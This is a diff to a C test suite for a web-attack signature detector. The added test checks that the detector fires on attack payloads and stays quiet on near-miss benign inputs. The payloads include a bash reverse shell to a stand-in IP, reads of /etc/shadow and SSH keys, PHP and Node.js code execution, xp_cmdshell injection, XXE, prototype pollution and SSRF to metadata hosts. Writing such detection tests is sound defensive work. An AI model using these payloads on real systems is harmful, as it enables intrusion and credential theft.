@@ -172,6 +172,50 @@ Test(websig, code_injection_ssrf_and_tools)
     FIRES("protocol", "/a%0d%0aSet-Cookie:%20x=1", NULL, NULL);
 }
 
+Test(websig, evasions_and_less_common_vectors)
+{
+    /* windows shell control flow, bash word splitting, /dev/tcp */
+    FIRES("rce", "/run", "task=for+/f+%22tokens=1%22+%25%25x+in+(%27whoami%27)+do+echo+%25%25x",
+          NULL);
+    FIRES("rce", "/run", "arg=if+exist+c:%5Cboot.ini+echo+yes", NULL);
+    FIRES("rce", "/run", "arg=if+[%251]==[]+goto+end", NULL);
+    FIRES("rce", "/ping", "host=a;w$@h$@o$@ami", NULL);
+    FIRES("rce", "/ping", "host=a;bash+-i+>%26+/dev/tcp/198.51.100.9/443+0>%261", NULL);
+    FIRES("rce", "/", NULL, "dd if=/etc/shadow of=/tmp/x");
+    /* PHP tags, indirect calls, variable variables */
+    FIRES("code", "/", "tpl=%7Bphp%7Dphpinfo()%7B/php%7D", NULL);
+    FIRES("code", "/", "x=(%27sys%27.%27tem%27)(%27id%27)", NULL);
+    FIRES("code", "/", "x=(%22system%22)(%22id%22);", NULL);
+    FIRES("code", "/", "v=${%27_GET%27}", NULL);
+    /* node.js and prototype pollution */
+    FIRES("code", "/api", "q=require(%27child_process%27).exec(%27id%27)", NULL);
+    FIRES("code", "/api", "__proto__[isAdmin]=true", NULL);
+    FIRES("code", "/api", "a[constructor][prototype][role]=admin", NULL);
+    FIRES("code", "/inc", "page=data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2B", NULL);
+    /* SQL dialects */
+    FIRES("sqli", "/p", "id=1::int", NULL);
+    FIRES("sqli", "/p", "id=2%20%3C%3E%203", NULL);
+    FIRES("sqli", "/p", "q=x%27;exec+xp_cmdshell+%27dir%27--", NULL);
+    FIRES("sqli", "/p", "q=1)+like+(1", NULL);
+    /* SSRF names, XML entities, backups, protocol */
+    FIRES("ssrf", "/fetch", "url=http://kubernetes.default.svc.cluster.local/api", NULL);
+    FIRES("ssrf", "/fetch", "url=http://metadata.packet.net/userdata", NULL);
+    FIRES("xss", "/", "x=%3C!ENTITY+xxe+SYSTEM+%22file:///etc/passwd%22%3E", NULL);
+    FIRES("sensitive", "/site/dump.rdb", NULL, NULL);
+    FIRES("sensitive", "/wp-content/debug.log", NULL, NULL);
+    FIRES("lfi", "/read", "f=/proc/self/environ", NULL);
+    FIRES("lfi", "/read", "f=/home/u/.ssh/id_rsa", NULL);
+    FIRES("protocol", "/", "x=GET+http://198.51.100.9/+HTTP/1.1", NULL);
+    FIRES("protocol", "/api/item/3", "_method=DELETE", NULL);
+    /* near misses that must stay quiet */
+    QUIET("/p", "a=11!=11", NULL); /* equal numbers: not a tautology */
+    QUIET("/p", "v=3.2.1&build=2024", NULL);
+    QUIET("/forum", "q=if+you+like+it", NULL);
+    QUIET("/docs", "topic=format+for+printing", NULL);
+    QUIET("/api/item/3", "_method=json", NULL);
+    QUIET("/time", "t=12:30::45", NULL);
+}
+
 Test(websig, ordinary_traffic_is_quiet)
 {
     QUIET("/", NULL,
@@ -207,7 +251,7 @@ Test(websig, family_selection_and_bad_sets)
     cr_assert_eq(fk_websig_load_default(&only, "nosuchfamily", &err), -1);
     /* one good family must not hide a misspelt one */
     cr_assert_eq(fk_websig_load_default(&only, "xss,sqlx", &err), -1);
-    cr_assert_not_null(strstr(err.msg, "'sqlx'") && strstr(err.msg, "sqli"), "%s", err.msg);
+    cr_assert(strstr(err.msg, "'sqlx'") && strstr(err.msg, "sqli"), "%s", err.msg);
     const char bad[] = "signatures:\n  - id: x\n    family: f\n    pattern: '(a'\n";
     cr_assert_eq(fk_websig_load(&only, "bad.yml", bad, sizeof bad - 1, NULL, &err), -1);
     cr_assert_not_null(strstr(err.msg, "signature x"), "%s", err.msg);
